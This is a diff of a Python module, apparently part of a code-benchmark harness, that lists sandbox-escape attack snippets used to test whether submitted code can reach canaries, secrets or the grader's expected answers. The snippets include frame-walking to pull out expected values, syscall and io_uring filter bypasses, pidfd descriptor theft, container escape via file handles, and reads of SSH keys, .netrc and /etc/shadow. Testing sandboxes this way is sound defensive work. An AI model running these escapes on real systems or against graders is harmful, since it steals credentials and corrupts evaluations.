@@ -4,19 +4,21 @@ from __future__ import annotations
 
 from .attack import Attack
 
-_READ = '''
+_READ = """
 def read(path):
     data = open(path, "rb").read(1 << 20)
     return canary_in(data) or data and "ESCAPED: read " + path
-'''
+"""
 
-_SECRETS = '["@HOME@/canary.txt", "@PROJECT@/canary.txt", "@SCRATCH@/canary.txt", "/tmp/@TMPFILE@", "/dev/shm/@TMPFILE@"]'
+_SECRETS = (
+    '["@HOME@/canary.txt", "@PROJECT@/canary.txt", "@SCRATCH@/canary.txt", "/tmp/@TMPFILE@", "/dev/shm/@TMPFILE@"]'
+)
 
 ATTACKS = (
     Attack(
         "frames",
         "Walks frames and their code objects for the expected value, as answers to the official grader can.",
-        '''
+        """
 def attack():
     frame = sys._getframe()
     while frame:
@@ -31,24 +33,24 @@ def attack():
             return got
         frame = frame.f_back
     return "nothing"
-''',
+""",
     ),
     Attack(
         "frames-of-threads",
         "Looks at the frames of every thread, and at coroutines and generators in flight.",
-        '''
+        """
 import gc, types
 def attack():
     frames = list(sys._current_frames().values())
     frames += [g.gi_frame for g in gc.get_objects() if isinstance(g, types.GeneratorType) and g.gi_frame]
     return first([lambda f=f: canary_in(repr(f.f_locals)) for f in frames])
-''',
+""",
         calls=2,
     ),
     Attack(
         "traceback",
         "Raises, and reads the frames of the traceback and the context of the exception.",
-        '''
+        """
 def attack():
     try:
         raise ValueError
@@ -59,22 +61,22 @@ def attack():
             seen.append(canary_in(repr(frame.f_locals)))
             frame = frame.f_back
         return next((s for s in seen if s), "nothing")
-''',
+""",
     ),
     Attack(
         "grader-package",
         "Imports the grader's own package and looks for a grader with cached references.",
-        '''
+        """
 import gc
 def attack():
     import colbench_gym.graders.unit_tests
     return "ESCAPED: the package can be imported"
-''',
+""",
     ),
     Attack(
         "environment",
         "Reads the environment: of Python, of libc, of /proc.",
-        '''
+        """
 def attack():
     environ = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")
     texts, i = [repr(dict(os.environ))], 0
@@ -88,13 +90,13 @@ def attack():
             pass
     text = " ".join(texts)
     return canary_in(text) or ("API_KEY" in text and "ESCAPED: a key") or ("@HOME@" in text and "ESCAPED: the home")
-''',
+""",
         teeth=True,
     ),
     Attack(
         "initial-stack",
         "Reads the environment and arguments that execve left on the main thread's stack.",
-        '''
+        """
 def attack():
     for line in open("/proc/self/maps"):
         if "[stack]" in line:
@@ -102,17 +104,17 @@ def attack():
             text = ctypes.string_at(start, end - start)
             return canary_in(text) or (b"API_KEY" in text and "ESCAPED: a key")
     return "nothing"
-''',
+""",
         teeth=True,
     ),
     Attack(
         "arguments",
         "Reads the arguments that the interpreter was started with.",
-        '''
+        """
 def attack():
     text = repr((sys.argv, sys.orig_argv, sys.path, sys.flags))
     return canary_in(text) or ("canary" in text and "ESCAPED: " + text)
-''',
+""",
     ),
     Attack(
         "secret-files",
@@ -123,7 +125,7 @@ def attack():
     Attack(
         "secret-files-by-syscall",
         "Opens them with open, openat, openat2 and creat called directly.",
-        f'''
+        f"""
 def attack():
     def read(fd):
         data = os.read(fd, 4096)
@@ -135,25 +137,25 @@ def attack():
         tries += [lambda r=raw: read(syscall(2, r, 0)), lambda r=raw: read(syscall(257, -100, r, 0)),
                   lambda r=raw: read(syscall(437, -100, r, ctypes.byref(how), 24))]
     return first(tries)
-''',
+""",
         teeth=True,
     ),
     Attack(
         "secret-files-through-proc",
         "Opens them through /proc/PID/root and /proc/PID/cwd of any process.",
         _READ
-        + f'''
+        + f"""
 def attack():
     roots = [f"/proc/{{p}}/root" for p in ["self", "thread-self", *pids()]]
     return first([lambda r=r, p=p: read(r + p) for r in roots for p in {_SECRETS}])
-''',
+""",
         teeth=True,
     ),
     Attack(
         "secret-files-by-link",
         "Makes hard and symbolic links to them, renames them and reads through the link.",
         _READ
-        + f'''
+        + f"""
 def attack():
     def through(make, path, name):
         make(path, name)
@@ -162,12 +164,12 @@ def attack():
     for i, path in enumerate({_SECRETS}):
         tries += [lambda p=path, i=i: through(os.symlink, p, f"link-{{i}}"), lambda p=path, i=i: through(os.link, p, f"hard-{{i}}")]
     return first(tries)
-''',
+""",
     ),
     Attack(
         "secret-files-by-command",
         "Starts cat, sh and Python to read them.",
-        f'''
+        f"""
 import subprocess
 def attack():
     def run(*command):
@@ -177,13 +179,13 @@ def attack():
     return first([lambda: run("/bin/cat", *paths), lambda: run("/bin/sh", "-c", "cat " + " ".join(paths)),
                   lambda: run(sys.executable, "-c", f"print([open(p).read() for p in {{paths}}])"),
                   lambda: run("/bin/true")])
-''',
+""",
         calls=2,
     ),
     Attack(
         "secret-files-by-library",
         "Reads them through parts of the library that open files themselves.",
-        f'''
+        f"""
 import fileinput, linecache, mmap, shutil, sqlite3, tokenize, runpy, zipfile, tarfile, csv, pathlib
 def attack():
     tries = []
@@ -194,13 +196,13 @@ def attack():
                   lambda p=path: sqlite3.connect(":memory:").execute("attach ? as stolen", (p,)) and None,
                   lambda p=path: runpy.run_path(p) and "ESCAPED: ran it", lambda p=path: canary_in(tokenize.open(p).read())]
     return first(tries)
-''',
+""",
         teeth=True,
     ),
     Attack(
         "search",
         "Walks the whole file system for anything with a canary in its name or text.",
-        '''
+        """
 def attack():
     deadline = time.process_time() + 0.5
     for top in ("@SCRATCH@", "@HOME@", "/tmp", "/dev/shm", "/var/tmp", "/run", "/home", "/root", "/work", "/srv", "/mnt", "/opt", "/etc"):
@@ -215,7 +217,7 @@ def attack():
                 if got:
                     return got
     return "nothing"
-''',
+""",
         calls=2,
         teeth=True,
     ),
@@ -223,18 +225,18 @@ def attack():
         "caches",
         "Looks for byte code, caches and configuration of the user and of the project.",
         _READ
-        + '''
+        + """
 def attack():
     names = ["@HOME@/.cache/colbench/references.json", "@HOME@/.netrc", "@HOME@/.ssh/id_ed25519", "@HOME@/.docker/config.json",
              "@PROJECT@/__pycache__/reference.pyc", "~/.cache", "/root/.bash_history", "/etc/shadow", "/etc/sudoers"]
     return first([lambda p=p: read(os.path.expanduser(p)) for p in names])
-''',
+""",
         teeth=True,
     ),
     Attack(
         "file-handles",
         "Opens files of the machine by handle and through device numbers, the classic way out of a container.",
-        '''
+        """
 class Handle(ctypes.Structure):
     _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("bytes", ctypes.c_ubyte * 8)]
 def attack():
@@ -246,12 +248,12 @@ def attack():
         os.mknod("disk", 0o60666, os.makedev(254, 0))
         return os.read(os.open("disk", 0), 16) and "ESCAPED: a raw disk"
     return first([lambda: by_handle("/"), lambda: by_handle("/etc"), lambda: by_handle(os.getcwd()), by_device])
-''',
+""",
     ),
     Attack(
         "descriptors-of-the-server",
         "Copies open files out of the server with pidfd_getfd, and reopens them through /proc.",
-        '''
+        """
 def attack():
     def steal(pid):
         pidfd = syscall(434, pid, 0)
@@ -264,23 +266,23 @@ def attack():
     def reopen(pid):
         return [os.open(f"/proc/{pid}/fd/{fd}", os.O_RDONLY | os.O_NONBLOCK) for fd in range(3, 12)] and f"ESCAPED: {pid}"
     return first([lambda p=p: steal(p) for p in pids()] + [lambda p=p: reopen(p) for p in pids()])
-''',
+""",
         calls=2,
         teeth=True,
     ),
     Attack(
         "ring-instead-of-system-calls",
         "Opens an io_uring, whose operations no system call filter sees.",
-        '''
+        """
 def attack():
     parameters = ctypes.create_string_buffer(120)
     return first([lambda: f"ESCAPED: ring {syscall(425, 4, parameters)}"])
-''',
+""",
     ),
     Attack(
         "system-calls-of-another-architecture",
         "Calls the 32-bit and x32 tables of the kernel, whose numbers differ.",
-        '''
+        """
 import mmap
 def attack():
     def x32():
@@ -293,7 +295,7 @@ def attack():
         got = ctypes.CFUNCTYPE(ctypes.c_int)(address)()
         return got > 0 and f"ESCAPED: 32-bit getpid {got}"
     return first([x32, int80])
-''',
+""",
         calls=2,
     ),
 )
